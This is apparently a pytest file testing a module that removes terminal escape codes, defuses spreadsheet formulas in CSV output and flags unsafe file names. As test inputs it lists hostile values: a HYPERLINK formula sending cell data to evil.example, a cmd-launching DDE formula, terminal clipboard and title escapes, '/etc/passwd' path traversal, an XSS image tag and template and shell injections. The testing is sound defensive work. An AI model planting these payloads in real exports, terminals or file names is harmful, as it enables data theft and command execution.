"""Names and messages of strangers reach a terminal, a spreadsheet and a disk as mere text."""

import pytest

from handgrad.plaintext import csv_field, last_states, line, odd_name, plain

ESCAPES = {
    "colour": ("\x1b[1;31mred\x1b[0m", "red"),
    "clears_the_screen": ("a\x1b[2J\x1b[Hb", "ab"),
    "window_title": ("\x1b]0;owned\x07a", "a"),
    "hyperlink": ("\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\", "text"),
    "clipboard": ("\x1b]52;c;ZXZpbA==\x07a", "a"),
    "device_control": ("\x1bP+q544e\x1b\\a", "a"),
    "unfinished": ("a\x1b]0;never closed", "a"),
    "lone_escape": ("a\x1b", "a"),
    "c1_control": ("\x9b31mred", "red"),
    "backspaces": ("good\x08\x08\x08\x08evil", "goodevil"),
    "carriage_return": ("100 %\rfail", "100 %fail"),
    "text_turned_around": ("a\u202eb\u2066c", "abc"),
    "invisible": ("a\u200bb\ufeff", "ab"),
    "nul": ("a\0b", "ab"),
    "half_character": ("a\ud800b", "ab"),
    "lines_and_tabs_stay": ("a\tb\r\nc\n", "a\tb\nc\n"),
    "chinese_stays": ("反向传播\u3000✓", "反向传播\u3000✓"),
}


@pytest.mark.parametrize(("text", "left"), ESCAPES.values(), ids=ESCAPES)
def test_escape_sequences_and_controls_are_dropped(text: str, left: str) -> None:
    assert plain(text) == left


def test_a_line_is_one_line_of_decent_length() -> None:
    assert line("a\nb\r\nc\t d") == "a b c d"
    assert line("x" * 500) == "x" * 199 + "…"


FORMULAS = {
    "hyperlink": '=HYPERLINK("https://evil.example?"&A1)',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "pipe": "|x",
    "after_a_space": " =1+1",
    "full_width": "＝1+1",
    "tab": "\t=1+1",
}


@pytest.mark.parametrize("value", FORMULAS.values(), ids=FORMULAS)
def test_a_formula_becomes_text(value: str) -> None:
    assert csv_field(value).startswith("'")


@pytest.mark.parametrize("value", ["1.5", "-2", "+3e-5", "alice", "", "Anna-Maria", "a=b"])
def test_numbers_and_names_are_left_alone(value: str) -> None:
    assert csv_field(value) == value


ODD = {
    "empty": "",
    "dot": ".",
    "parent": "..",
    "leads_up": "../alice",
    "absolute": "/etc/passwd",
    "backslash": "..\\alice",
    "hidden": ".ssh",
    "newline": "a\nb",
    "escape": "a\x1b[2J",
    "nul": "a\0",
    "pattern": "al*ce",
    "pattern_of_letters": "al[ij]ce",
    "braces": "{student_id}",
    "turned_around": "ecila\u202e",
    "space_behind": "alice ",
    "300_characters": "a" * 300,
    "half_character": "a\udcff",
    "markup": '"><img src=x onerror=alert(1)>',
    "an_entity": "a&lt;",
    "a_template": "{{7*7}}",
    "a_shell": "a;b",
    "129_characters": "a" * 129,
    "100_characters_of_three_bytes": "学" * 100,
}


@pytest.mark.parametrize("name", ODD.values(), ids=ODD)
def test_a_name_that_could_leave_its_folder_or_mean_another_is_odd(name: str) -> None:
    assert odd_name(name)


@pytest.mark.parametrize(
    "name", ["alice", "Anna Maria", "s1234567", "a.b@c.d", "李雷", "=1+1", "o'neil"]
)
def test_an_ordinary_name_is_not(name: str) -> None:
    assert odd_name(name) == ""


@pytest.mark.parametrize(
    ("written", "left"),
    [
        (" 0%\r 50%\r100%\nok\n", "100%\nok\n"),
        ("\r100%\r", "100%"),
        ("one\r\ntwo\r\n", "one\ntwo\n"),
        ("no bar", "no bar"),
    ],
    ids=["bar", "unfinished bar", "line ends of another system", "plain"],
)
def test_a_progress_bar_is_shown_as_it_ended(written: str, left: str) -> None:
    assert last_states(written) == left
